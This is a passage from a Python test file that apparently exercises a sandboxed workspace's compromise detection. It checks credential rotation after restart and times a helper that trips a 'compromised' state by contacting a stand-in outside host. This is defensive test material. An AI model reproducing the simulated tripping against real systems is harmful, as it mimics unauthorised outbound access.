    assert state(b, "e") == "stopped" and not [a for a in alerts(b, "e") if a["decision"] == "open"]
    b("workspace", "start", "e", check=0)
    assert b.sh("e", "cat ~/mine 2>/dev/null; true", check=0).stdout == ""
    again = w.account.held(b, "e")
    assert again != held and random_part(again) != random_part(held)
    out = b.sh("e", f"curl -sS -m 20 -H 'Authorization: Bearer {again}' https://api.example/after", check=0).stdout
    assert out.startswith("GET /after") and SECRET.encode() in w.api.everything()


def test_frozen_fast(w):
    """From the request to `compromised`: for a person's eye; the figure itself is bench's."""
    need_brome()
    began = time.monotonic()
    p, _ = trip(w, "s", "c195.other.example")
    assert time.monotonic() - began < 10
    w.b("workspace", "thaw", "s", "--continue", check=0)
    p.communicate(timeout=30)
